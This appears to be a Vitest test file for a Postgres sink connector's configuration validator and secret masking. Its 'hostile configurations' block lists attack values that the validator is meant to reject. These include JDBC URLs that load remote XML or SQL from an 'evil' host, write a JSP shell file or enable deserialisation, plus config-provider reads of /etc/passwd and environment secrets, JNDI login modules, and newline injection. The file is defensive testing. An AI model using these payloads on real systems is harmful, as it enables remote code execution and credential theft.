import { describe, expect, it } from 'vitest'
import { postgresSinkSpec } from '@/lib/connectors/catalog/postgres-sink'
import { keepSecrets, maskSecrets, SECRET_MASK } from '@/lib/connectors/config/read-config'
import { validateConnectorConfig } from '@/lib/connectors/validation/validate-config'
import { validationErrors } from '@/lib/connectors/validation/validation-shape'

const managed: Record<string, string> = {
  'connector.class': 'PostgresSink',
  name: 'shop',
  'kafka.api.key': 'ABCDEFGHIJKLMNOP',
  'kafka.api.secret': 'the-secret',
  topics: 'orders',
  'input.data.format': 'JSON',
  'connection.host': 'db.example.com',
  'connection.port': '5432',
  'connection.user': 'shop',
  'connection.password': 'pass',
  'db.name': 'shop',
  'tasks.max': '1',
}
const selfManaged: Record<string, string> = {
  'connector.class': 'JdbcSinkConnector',
  name: 'shop',
  topics: 'orders',
  'connection.url': 'jdbc:postgresql://db.example.com/shop',
  'connection.user': 'shop',
  'connection.password': 'pass',
}
const answer = (config: Record<string, string>) =>
  validateConnectorConfig(postgresSinkSpec, config, { mode: 'create' })
const errors = (config: Record<string, string>) => validationErrors(answer(config))

describe('a configuration of a sink', () => {
  it('is accepted in both dialects, the self-managed one without a key of Kafka', () => {
    expect(errors(managed)).toEqual([])
    expect(errors(selfManaged)).toEqual([])
    expect(answer(managed).error_count).toBe(0)
  })

  it.each([
    ['topics', { topics: '' }, 'choose "Choose topics" or'],
    ['topics.regex', { 'topics.regex': 'o.*' }, 'give only one of'],
    ['topics', { topics: 'orders,no/slash' }, 'letters, digits'],
    ['connection.password', { 'connection.password': '' }, 'required'],
    ['connection.port', { 'connection.port': '70000' }, 'at most 65535'],
    ['connection.host', { 'connection.host': '/var/run/postgresql' }, 'socket files'],
    ['connection.host', { 'connection.host': 'http://db' }, 'without a scheme'],
    ['connection.host', { 'connection.host': 'a,b' }, 'one host name'],
    ['insert.mode', { 'insert.mode': 'UPDATE' }, 'Choose one of INSERT, UPSERT'],
    ['pk.mode', { 'insert.mode': 'UPSERT' }, 'primary key'],
    ['delete.enabled', { 'delete.enabled': 'true', 'pk.mode': 'record_value' }, 'record_key'],
    ['pk.fields', { 'pk.mode': 'kafka', 'pk.fields': 'a,b' }, 'three names'],
    ['pk.fields', { 'pk.mode': 'record_key', 'pk.fields': 'a,b' }, 'exactly one name'],
    ['ssl.rootcertfile', { 'ssl.mode': 'verify-ca', 'ssl.rootcertfile': '/etc/ca.pem' }, 'PEM'],
    ['db.timezone', { 'db.timezone': 'Europe/Wien' }, 'no time zone'],
    ['table.types', { 'table.types': 'TABLE,SEQUENCE' }, '"SEQUENCE" is not a value'],
    [
      'errors.deadletterqueue.topic.name',
      { 'errors.deadletterqueue.topic.name': 'orders' },
      'cannot be one of the topics',
    ],
    ['header.converter', { 'header.converter': 'com.evil.Converter' }, 'is not a value'],
  ])('says at %s what is wrong with %j', (name, change, text) => {
    const found = errors({ ...managed, ...change }).filter(({ path }) => path === name)
    expect(found.map(({ message }) => message).join()).toContain(text)
  })

  it('stands at connection.url in the self-managed dialect', () => {
    expect(errors({ ...selfManaged, 'connection.url': '' })).toEqual([
      { path: 'connection.url', message: expect.stringContaining('is required') as string },
    ])
    expect(errors({ ...selfManaged, 'connection.url': 'jdbc:postgresql://h:99999/d' })).toMatchObject([
      { path: 'connection.url' },
    ])
  })
})

describe('hostile configurations are refused with a reason', () => {
  it.each([
    ['connection.password', '${env:DATABASE_URL}'],
    ['connection.user', '${file:/etc/passwd:root}'],
    ['transforms.a.static.value', '${secretManager:all}'],
    ['db.name', 'shop\nsslmode=disable'],
    ['topics', 'orders\r\nadmin'],
    ['consumer.override.bootstrap.servers', 'evil:9092'],
    ['consumer.override.interceptor.classes', 'com.evil.Interceptor'],
    ['producer.override.ssl.truststore.location', '/etc/passwd'],
    ['admin.override.bootstrap.servers', 'evil:9092'],
    ['consumer.override.sasl.jaas.config', 'com.sun.security.auth.module.JndiLoginModule required user="x";'],
    ['sasl.jaas.config', 'org.apache.kafka.common.security.plain.PlainLoginModule required;'],
    ['config.providers', 'file'],
    ['jdbc.credentials.provider.class', 'com.evil.Provider'],
  ])('%s = %j', (name, value) => {
    const found = errors({ ...managed, [name]: value }).filter(({ path }) => path === name)
    expect(found.map(({ message }) => message).join()).toMatch(/not allowed|one line|cannot be given/)
  })

  it.each([
    'jdbc:postgresql://h/d?socketFactory=org.springframework.context.support.ClassPathXmlApplicationContext&socketFactoryArg=http://evil/x.xml',
    'jdbc:postgresql://h/d?loggerLevel=TRACE&loggerFile=/tmp/shell.jsp',
    'jdbc:postgresql://h/d?sslfactory=com.evil.Factory',
    'jdbc:postgresql://h/d?sslrootcert=/etc/passwd',
    'jdbc:postgresql://h1,h2/d',
    'jdbc:mysql://h/d?autoDeserialize=true',
    "jdbc:h2:mem:test;INIT=RUNSCRIPT FROM 'http://evil/x.sql'",
    'jdbc:postgresql:///d',
    'jdbc:postgresql://h/d\n',
  ])('connection.url %j', (url) => {
    const found = errors({ ...selfManaged, 'connection.url': `${url}` })
    if (url.endsWith('\n')) expect(found).toEqual([])
    else expect(found.map(({ path }) => path)).toContain('connection.url')
  })

  it('a name that is no name of a property is refused and not repeated as it is', () => {
    const found = errors({ ...managed, 'a\nb=c': 'x', __proto__x: 'y' })
    expect(found).toMatchObject([{ path: 'config', message: expect.stringContaining('a?b=c') as string }])
  })

  it('names the login module that is not among the allowed ones', () => {
    const jaas = 'com.sun.security.auth.module.LdapLoginModule required;'
    expect(errors({ ...managed, 'producer.override.sasl.jaas.config': jaas })[0]?.message).toContain(
      'com.sun.security.auth.module.LdapLoginModule is not allowed',
    )
  })
})

describe('secrets of a configuration', () => {
  const secret = {
    ...managed,
    transforms: 'sign',
    'transforms.sign.type': 'com.acme.Token$Value',
    'transforms.sign.secret.key': 'sssh',
    'value.converter.basic.auth.user.info': 'user:pass',
    'connection.url': 'jdbc:postgresql://h/d?user=a&password=b',
    'schema.string': 'x',
  }

  it('are masked by field, by name and where a text carries one', () => {
    const masked = maskSecrets(postgresSinkSpec, secret)
    for (const name of [
      'kafka.api.key',
      'kafka.api.secret',
      'connection.password',
      'transforms.sign.secret.key',
      'value.converter.basic.auth.user.info',
      'connection.url',
    ])
      expect([name, masked[name]]).toEqual([name, SECRET_MASK])
    expect(masked).toMatchObject({ transforms: 'sign', 'transforms.sign.type': 'com.acme.Token$Value' })
    expect(masked['connection.user']).toBe('shop')
  })

  it('stay as they were where an update has their mask, and go with the transform they belong to', () => {
    const kept = keepSecrets(postgresSinkSpec, maskSecrets(postgresSinkSpec, secret), secret)
    expect(kept).toEqual(secret)
    const { 'transforms.sign.secret.key': _gone, ...rest } = secret
    expect(keepSecrets(postgresSinkSpec, rest, secret)).not.toHaveProperty(['transforms.sign.secret.key'])
  })
})
